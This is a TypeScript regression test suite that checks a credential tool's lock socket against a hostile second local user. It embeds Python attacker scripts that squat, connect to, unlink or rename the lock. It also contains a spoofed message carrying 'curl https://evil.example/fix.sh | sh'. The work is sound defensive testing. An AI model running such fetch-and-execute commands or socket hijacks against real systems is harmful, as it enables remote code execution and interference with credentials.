// Another local user: a real second account on the machine (test/support/users.ts) runs
// its own programs against a user's keyrole. The single-flight lock was a Linux abstract
// socket, which has no permissions: another user could bind its name first and make the
// victim print its text ("fix: curl … | sh"), exit with its exit code, wait past every bound
// and reconnect in a loop. The lock is now a socket file in the user's 0700 private directory
// (src/credentials/lock.ts). Each case here gives the other user the first move against that
// real lock (bind its name first and serve those answers; connect to it, remove or replace it
// while it is held) and checks that the kernel refuses the other user, and that the victim's
// `keyrole process` neither prints nor adopts anything, waits for nothing, and still works.

import { describe, test, before, after, beforeEach } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import * as fs from 'node:fs';
import { join } from 'node:path';
import { twoStoreWorld, type World } from './support/world.ts';
import { DEMO_ACCOUNT_ID } from './support/emulator.ts';
import { baseEnv, KEYROLE } from './support/run.ts';
import { requireTool } from './support/tools.ts';
import { tempDir } from './support/tmp.ts';
import { otherUser, type LocalUser } from './support/users.ts';
import { Recorder, assertOneLine, normalise } from '../scripts/robustness-doc.ts';

const ROLE = `arn:aws:iam::${DEMO_ACCOUNT_ID}:role/Admin`;
const rec = new Recorder('users', 'test/robustness.users.test.ts');
const EVIL = 'fix: curl https://evil.example/fix.sh | sh';

// The other user's program: binds a Unix socket (abstract when the name starts with @),
// says "bound", and serves each connection as `mode` says, printing "conn" for each.
// Python, so that it runs as any user without access to this checkout.
const ATTACKER = String.raw`
import os, socket, sys, threading, time
addr, mode = sys.argv[1], sys.argv[2]
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.bind('\0' + addr[1:] if addr.startswith('@') else addr)
s.listen(64)
print('bound', flush=True)
def serve(c):
    try:
        if mode == 'text':
            c.sendall(b'working\nfailed {"code":"Evil","message":"keyrole needs a fix","fix":"` + EVIL + String.raw`","exitCode":0}\n' + b'Evil: ` + EVIL + String.raw`\n' * 50)
            c.close()
        elif mode == 'alternate':
            while True:
                c.sendall(b'prompt\n'); time.sleep(0.05)
                c.sendall(b'working\n'); time.sleep(0.05)
        elif mode == 'close':
            c.close()
    except OSError:
        pass
while True:
    c, _ = s.accept()
    print('conn', flush=True)
    threading.Thread(target=serve, args=(c,), daemon=True).start()
`;

// The other user reaching for the user's held lock socket file: bind it, connect to it, and
// steal it: remove it or move it away (either would let a second process of the user take
// the lock too, and the other user bind the name for the next one).
const PROBE = String.raw`
import os, socket, sys
lock = sys.argv[1]
for what in ('bind', 'connect'):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        getattr(s, what)(lock); print(what, 'ok')
    except OSError as e:
        print(what, e.__class__.__name__)
for what, act in (('unlink', lambda: os.unlink(lock)), ('rename', lambda: os.rename(lock, lock + '.stolen'))):
    try:
        act(); print(what, 'ok')
    except OSError as e:
        print(what, e.__class__.__name__)
`;

interface Attacker { child: ChildProcess; refused: string | undefined; connections(): number; stop(): Promise<void> }

describe('robustness: another local user', () => {
  let w: World;
  let other: LocalUser;
  let key: string;
  let kcKey: string;
  const khome = () => join(w.home, '.aws', 'keyrole');
  // The system's Python: one the other user can run (a per-user install under /root is not).
  const python = () => requireTool('/usr/bin/python3');

  function asOther(script: string, args: string[]): ChildProcess {
    return spawn(python(), ['-c', script, ...args], { uid: other.uid, gid: other.gid, cwd: '/', env: { PATH: '/usr/bin:/bin' }, stdio: ['ignore', 'pipe', 'pipe'] });
  }

  /**
   * The other user's socket at `addr`, serving `mode`, once it is bound; with `refusable`, a
   * bind the kernel refuses is returned (`refused`: the Python error) instead of thrown.
   */
  async function attacker(addr: string, mode: 'text' | 'alternate' | 'close', refusable = false): Promise<Attacker> {
    const child = asOther(ATTACKER, [addr, mode]);
    let out = '';
    let err = '';
    child.stderr!.setEncoding('utf8').on('data', (d: string) => { err += d; });
    const closed = new Promise((r) => child.once('close', r));
    let refused: string | undefined;
    await new Promise<void>((resolve, reject) => {
      child.stdout!.setEncoding('utf8').on('data', (d: string) => { out += d; if (out.includes('bound\n')) resolve(); });
      void closed.then(() => {
        refused = /^(\w+Error): .*$/m.exec(err)?.[1];
        if (refusable && refused) resolve();
        else reject(new Error(`the other user's socket did not bind ${addr}: ${err}`));
      });
    });
    return {
      child,
      refused,
      connections: () => out.split('\n').filter((l) => l === 'conn').length,
      async stop() {
        child.kill('SIGKILL');
        await closed;
      },
    };
  }

  before(async () => {
    other = otherUser();
    w = await twoStoreWorld(ROLE);
    // A home as Debian makes it (0755), so the other user can walk up to ~/.aws/keyrole.
    fs.chmodSync(w.home, 0o755);
    fs.chmodSync(join(w.home, '.aws'), 0o755);
    // The lock names are the cache keys: learn them from one run of each.
    assert.equal((await w.keyrole(['process', 'prod'], { env: { KEYROLE_NTP: 'off' } })).code, 0);
    key = fs.readdirSync(join(khome(), 'cache')).find((f) => f.endsWith('.json'))!.slice(0, 16);
    assert.equal((await w.keyrole(['process', 'kc'], { env: { KEYROLE_NTP: 'off' } })).code, 0);
    const found = spawnSync(requireTool('secret-tool'), ['search', '--all', 'service', 'keyrole:cache'], { env: baseEnv(w.env), encoding: 'utf8' });
    kcKey = [...found.stderr.matchAll(/attribute\.username = (\w+)/g)].map((m) => m[1])[0];
    assert.ok(key && kcKey, 'both cache keys known');
  });
  after(() => w?.stop());
  beforeEach(async () => {
    await w.emu.behaviour({ latencyMs: 0, faults: [] });
    await w.keyrole(['cache', 'clear']);
    await w.emu.resetStats();
  });

  const modes = [
    { mode: 'text', name: 'regression: another user binds the lock name first and answers with text, an error and exit code 0', what: 'the lock\'s name (`~/.aws/keyrole/<key>.lock`, home 0755) bound first by another user, to send `failed {…"fix":"curl https://evil.example/fix.sh \\| sh","exitCode":0}` and 50 lines of text' },
    { mode: 'alternate', name: 'regression: another user\'s lock holder alternating prompt and working lines', what: 'the same name, bound first to serve `prompt` and `working` every 50 ms for ever' },
    { mode: 'close', name: 'regression: another user\'s lock holder closing every connection', what: 'the same name, bound first to close each connection at once' },
  ] as const;
  for (const m of modes) {
    test(m.name, async () => {
      const lockPath = join(khome(), `${key}.lock`);
      assert.ok(fs.statSync(khome()).isDirectory(), 'the private directory exists, so the other user can aim at it');
      const a = await attacker(lockPath, m.mode, true);
      try {
        assert.equal(a.refused, 'PermissionError', `the kernel let another user bind keyrole's lock name ${lockPath}`);
        const r = await w.keyrole(['process', 'prod'], { env: { KEYROLE_NTP: 'off' } });
        assert.equal(r.code, 0, `${r.signal ?? ''} ${r.stderr}`);
        assert.equal(r.stderr, '', 'nothing printed on stderr');
        assert.match(r.stdout, /"AccessKeyId":"ASIA/);
        assert.equal(a.connections(), 0, 'keyrole never connected to the other user\'s socket');
        assert.equal((await w.emu.stats()).calls.AssumeRole, 1);
        rec.add(m.name, m.what, 'refused by the kernel; not printed, not adopted, not waited for: the credentials as usual',
          `the other user's bind: ${a.refused}; exit 0 with the blob, stderr empty; the other user's socket got ${a.connections()} connections`);
      } finally {
        await a.stop();
      }
    });
  }

  test('regression: another user cannot bind, connect to, remove or move the held lock socket file', async () => {
    await w.emu.behaviour({ latencyMs: 3000 });
    const holder = spawn(KEYROLE, ['process', 'prod', '--debug'], { env: baseEnv({ ...w.env, KEYROLE_NTP: 'off' }), stdio: ['ignore', 'pipe', 'pipe'] });
    const closed = new Promise<number | null>((r) => holder.once('close', r));
    let err = '';
    await new Promise<void>((resolve, reject) => {
      holder.stderr!.setEncoding('utf8').on('data', (d: string) => { err += d; if (/took the lock/.test(err)) resolve(); });
      void closed.then(() => reject(new Error(`the holder exited before taking the lock: ${err}`)));
    });
    const lockPath = join(khome(), `${key}.lock`);
    assert.ok(fs.lstatSync(lockPath).isSocket(), 'the lock is a socket file in the private directory');
    // The place is no secret: /proc/net/unix lists the socket, under the name it was bound
    // to in the private directory before it was linked to the lock's name (src/credentials/lock.ts).
    assert.ok(fs.readFileSync('/proc/net/unix', 'utf8').includes(`${khome()}/.l`));
    const probe = spawnSync(python(), ['-c', PROBE, lockPath], { uid: other.uid, gid: other.gid, cwd: '/', encoding: 'utf8' });
    assert.equal(probe.status, 0, probe.stderr);
    assert.equal(probe.stdout, 'bind PermissionError\nconnect PermissionError\nunlink PermissionError\nrename PermissionError\n');
    assert.ok(fs.lstatSync(lockPath).isSocket(), 'the lock is still in place');
    assert.equal(await closed, 0, err);
    rec.add('regression: another user cannot bind, connect to, remove or move the held lock socket file', 'while the user holds the lock, another user binds, connects to, unlinks and renames `~/.aws/keyrole/<key>.lock` (its directory is listed in /proc/net/unix; home 0755)',
      'refused by the kernel: the lock lives in the 0700 private directory', `bind, connect, unlink, rename: PermissionError; the lock still in place; the holder exit 0`);
  });

  test('regression: another user owns the keyrole directory first', async () => {
    // KEYROLE_HOME in a shared place (a sticky 1777 directory, as /tmp): the other user
    // makes it first, open to all, with a lock socket for the user's key in it.
    const shared = tempDir('shared-');
    fs.chmodSync(shared, 0o1777);
    const kh = join(shared, 'kh');
    const mk = spawnSync(python(), ['-c', 'import os, sys; os.mkdir(sys.argv[1]); os.chmod(sys.argv[1], 0o777)', kh], { uid: other.uid, gid: other.gid, cwd: '/', encoding: 'utf8' });
    assert.equal(mk.status, 0, mk.stderr);
    const a = await attacker(join(kh, `${kcKey}.lock`), 'text');
    try {
      const file = await w.keyrole(['process', 'prod'], { env: { KEYROLE_NTP: 'off', KEYROLE_HOME: kh } });
      const line = assertOneLine(file, /belongs to another user/);
      const kc = await w.keyrole(['process', 'kc'], { env: { KEYROLE_NTP: 'off', KEYROLE_HOME: kh } });
      assert.equal(kc.code, 0, kc.stderr);
      assert.equal(kc.stderr, '');
      assert.equal(a.connections(), 0, 'keyrole never connected to the other user\'s socket');
      rec.add('regression: another user owns the keyrole directory first', '`KEYROLE_HOME` in a sticky shared directory, created first (0777) by another user with a lock socket for the user\'s key in it',
        'the directory is not used: the file store refuses it in one line; the keychain store works without single flight',
        `file store exit ${file.code}: ${normalise(line, [w.home]).replace(/uid \d+/, 'uid N')}; keychain store exit 0; the other user's socket got 0 connections`);
    } finally {
      await a.stop();
    }
  });

  rec.docTest(5);
});
